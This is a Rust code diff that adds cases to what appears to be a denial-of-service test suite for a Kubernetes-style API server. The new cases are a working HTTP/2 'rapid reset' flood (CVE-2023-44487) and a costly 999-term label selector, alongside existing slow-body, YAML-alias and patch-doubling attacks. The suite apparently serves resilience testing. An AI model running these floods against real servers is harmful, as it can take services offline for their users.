@@ -10,7 +10,7 @@ use anyhow::Result;
 use bytes::Bytes;
 use futures::future::{BoxFuture, FutureExt};
 use futures::stream::{self, FuturesUnordered, StreamExt};
-use http_body_util::StreamBody;
+use http_body_util::{Empty, StreamBody};
 use hyper::Request;
 use hyper::body::Frame;
 use hyper::client::conn::http2;
@@ -40,9 +40,11 @@ pub fn all(unprivileged: &Endpoint, developer: &Endpoint) -> Vec<(&'static str, 
         ("silent connections", silent_connections(unprivileged.clone()).boxed()),
         ("unfinished bodies over HTTP/1.1", unfinished_bodies(unprivileged.clone(), 600).boxed()),
         ("unfinished bodies over HTTP/2", unfinished_bodies_http2(unprivileged.clone(), 4).boxed()),
+        ("streams that are reset", reset_streams(unprivileged.clone(), 4).boxed()),
         ("large bodies", large_bodies(unprivileged.clone()).boxed()),
         ("lists that nobody reads", unread_lists(developer.clone()).boxed()),
         ("watches that nobody reads", unread_watches(developer.clone()).boxed()),
+        ("long selectors", requests(developer.clone(), 2, long_selector).boxed()),
         ("YAML aliases", requests(developer.clone(), 2, yaml_aliases).boxed()),
         ("JSON patches that double", requests(developer.clone(), 2, doubling_patch).boxed()),
         ("JSON patches that insert", requests(developer.clone(), 2, inserting_patch).boxed()),
@@ -144,6 +146,36 @@ async fn unfinished_bodies_http2(endpoint: Endpoint, connections: usize) {
     .await;
 }
 
+/// Streams of HTTP/2 that are reset as soon as they have begun: "rapid reset", CVE-2023-44487.
+async fn reset_streams(endpoint: Endpoint, connections: usize) {
+    repeat_concurrently(connections, || async {
+        let io = TokioIo::new(endpoint.tls(b"h2").await?);
+        let (mut sender, connection) = http2::handshake(TokioExecutor::new(), io).await?;
+        let resets = async {
+            loop {
+                let mut begun = FuturesUnordered::new();
+                for _ in 0..200 {
+                    let mut request = Request::get(format!("https://attacked{}", config_maps()))
+                        .body(Empty::<Bytes>::new())?;
+                    if let Some(token) = endpoint.authorization() {
+                        request.headers_mut().insert("authorization", token.clone());
+                    }
+                    sender.ready().await?;
+                    begun.push(sender.send_request(request));
+                }
+                // Until they are sent. What is not answered by then is reset when it is dropped.
+                _ = begun.next().await;
+            }
+        };
+        let resets: std::pin::Pin<Box<dyn Future<Output = Result<()>> + Send>> = Box::pin(resets);
+        tokio::select! {
+            ended = connection => Ok(ended?),
+            ended = resets => ended,
+        }
+    })
+    .await;
+}
+
 /// Bodies of nearly 3 MB that lack only their last byte.
 async fn large_bodies(endpoint: Endpoint) {
     let most = Bytes::from(vec![b' '; (3 << 20) - 10]);
@@ -218,6 +250,12 @@ const JSON_PATCH: &str = "application/json-patch+json";
 
 fn json_body(value: &Value) -> Bytes {
     value.to_string().into()
+}
+
+/// As many requirements as are read, of which every object meets all but the last.
+fn long_selector() -> Vec<HostileRequest> {
+    let met: String = (0..999).map(|i| format!("!k{i},")).collect();
+    vec![("GET", format!("{}?labelSelector={met}k%3Dv", config_maps()), JSON, Bytes::new())]
 }
 
 fn yaml_aliases() -> Vec<HostileRequest> {
